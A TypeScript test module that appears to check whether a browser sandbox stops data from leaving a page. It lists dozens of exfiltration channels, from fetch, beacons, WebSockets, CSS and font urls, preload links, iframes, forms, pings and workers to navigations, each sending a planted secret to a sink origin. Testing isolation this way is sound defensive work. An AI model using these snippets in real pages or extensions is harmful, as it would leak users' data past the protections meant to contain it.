/**
 * Ways out of a page, each tried on purpose with a planted secret. The text runs inside the page or worker with `to(name)` giving the
 * foreign address. What the calling code sees proves nothing (sendBeacon answers true and nothing leaves): only the sink's log counts.
 */

export interface Channel {
  readonly name: string;
  readonly code: string;
}

/** In the document, without leaving it. */
export const pageChannels: readonly Channel[] = [
  { name: "fetch-get", code: `fetch(to("fetch-get") + "?secret=110105").catch(() => {})` },
  { name: "fetch-post", code: `fetch(to("fetch-post"), { method: "POST", mode: "no-cors", body: "secret" }).catch(() => {})` },
  { name: "fetch-keepalive", code: `fetch(to("fetch-keepalive"), { mode: "no-cors", keepalive: true }).catch(() => {})` },
  { name: "xhr", code: `const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.onerror = () => {}; x.send()` },
  { name: "websocket", code: `new WebSocket(to("websocket").replace("http", "ws"))` },
  { name: "eventsource", code: `new EventSource(to("eventsource"))` },
  { name: "send-beacon", code: `navigator.sendBeacon(to("send-beacon"), "secret")` },
  { name: "img", code: `new Image().src = to("img")` },
  { name: "css-background", code: `document.body.style.backgroundImage = "url(" + to("css-background-img") + ")"` },
  {
    name: "adopted-style",
    code: `const s = new CSSStyleSheet(); s.replaceSync("body{border-image:url(" + to("adopted-style-img") + ") 1}"); document.adoptedStyleSheets = [s]`,
  },
  {
    name: "style-element",
    code: `const e = document.createElement("style"); e.textContent = "html{background:url(" + to("style-element-img") + ")}"; document.head.append(e)`,
  },
  { name: "stylesheet", code: `element("link", { rel: "stylesheet", href: to("stylesheet") })` },
  { name: "prefetch", code: `element("link", { rel: "prefetch", href: to("prefetch") })` },
  { name: "preload", code: `element("link", { rel: "preload", as: "image", href: to("preload-img") })` },
  { name: "modulepreload", code: `element("link", { rel: "modulepreload", href: to("modulepreload") })` },
  { name: "script", code: `element("script", { src: to("script") })` },
  { name: "import", code: `import(to("import")).catch(() => {})` },
  { name: "iframe", code: `element("iframe", { src: to("iframe") })` },
  { name: "iframe-srcdoc", code: `element("iframe", { srcdoc: "<img src=" + to("iframe-srcdoc-img") + ">" })` },
  { name: "object", code: `element("object", { data: to("object") })` },
  { name: "embed", code: `element("embed", { src: to("embed") })` },
  { name: "audio", code: `element("audio", { src: to("audio"), preload: "auto" })` },
  { name: "video-poster", code: `element("video", { poster: to("video-poster") })` },
  {
    name: "svg-image",
    code: `const v = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const i = document.createElementNS("http://www.w3.org/2000/svg", "image"); i.setAttribute("href", to("svg-image-img")); v.append(i); document.body.append(v)`,
  },
  { name: "font", code: `new FontFace("leak", "url(" + to("font") + ")").load().catch(() => {})` },
  {
    name: "form-into-frame",
    code: `const n = element("iframe", { name: "landing" }); const f = element("form", { action: to("form-into-frame"), method: "post", target: "landing" }); f.submit()`,
  },
  { name: "ping", code: `element("a", { href: "#here", ping: to("ping") }).click()` },
  { name: "html", code: `document.body.insertAdjacentHTML("beforeend", "<img src=" + to("html-img") + ">")` },
  { name: "blob-worker", code: `new Worker(URL.createObjectURL(new Blob(["fetch('" + to("blob-worker") + "', { mode: 'no-cors' })"])))` },
  { name: "data-worker", code: `new Worker("data:text/javascript,fetch('" + to("data-worker") + "', { mode: 'no-cors' })")` },
  {
    name: "shared-blob-worker",
    code: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('" + to("shared-blob-worker") + "', { mode: 'no-cors' })"])))`,
  },
];

/** Out of the document: each in a page of its own. */
export const departures: readonly Channel[] = [
  { name: "window-open", code: `window.open(to("window-open"))` },
  { name: "location-href", code: `location.href = to("location-href") + "?secret=110105"` },
  { name: "location-replace", code: `location.replace(to("location-replace"))` },
  { name: "anchor", code: `element("a", { href: to("anchor") }).click()` },
  { name: "anchor-new-tab", code: `element("a", { href: to("anchor-new-tab"), target: "_blank" }).click()` },
  { name: "loose-anchor", code: `const a = document.createElement("a"); a.href = to("loose-anchor"); a.target = "_blank"; a.click()` },
  { name: "form-get", code: `element("form", { action: to("form-get") }).submit()` },
  { name: "form-new-tab", code: `element("form", { action: to("form-new-tab"), target: "_blank" }).submit()` },
  { name: "meta-refresh", code: `element("meta", { "http-equiv": "refresh", content: "0;url=" + to("meta-refresh") })` },
];

/** Inside a worker, classic or module. */
export const workerChannels: readonly Channel[] = [
  { name: "fetch-get", code: `fetch(to("fetch-get") + "?secret=110105").catch(() => {})` },
  { name: "fetch-post", code: `fetch(to("fetch-post"), { method: "POST", mode: "no-cors", body: "secret" }).catch(() => {})` },
  { name: "xhr", code: `const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.onerror = () => {}; x.send()` },
  { name: "websocket", code: `new WebSocket(to("websocket").replace("http", "ws"))` },
  { name: "eventsource", code: `new EventSource(to("eventsource"))` },
  { name: "import-scripts", code: `importScripts(to("import-scripts"))` },
  { name: "import", code: `import(to("import")).catch(() => {})` },
  { name: "blob-worker", code: `new Worker(URL.createObjectURL(new Blob(["fetch('" + to("blob-worker") + "', { mode: 'no-cors' })"])))` },
  { name: "data-worker", code: `new Worker("data:text/javascript,fetch('" + to("data-worker") + "', { mode: 'no-cors' })")` },
  { name: "font", code: `new FontFace("leak", "url(" + to("font") + ")").load().catch(() => {})` },
];

/** The text to evaluate: each channel on its own, so that one refusal stops no other. */
export function attempt(channel: Channel, sinkOrigin: string, place: string): string {
  return `(() => {
    const to = (name) => ${JSON.stringify(`${sinkOrigin}/${place}/`)} + name;
    const element = (tag, attributes) => {
      const made = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      document.body.append(made);
      return made;
    };
    try { ${channel.code}; } catch {}
  })()`;
}
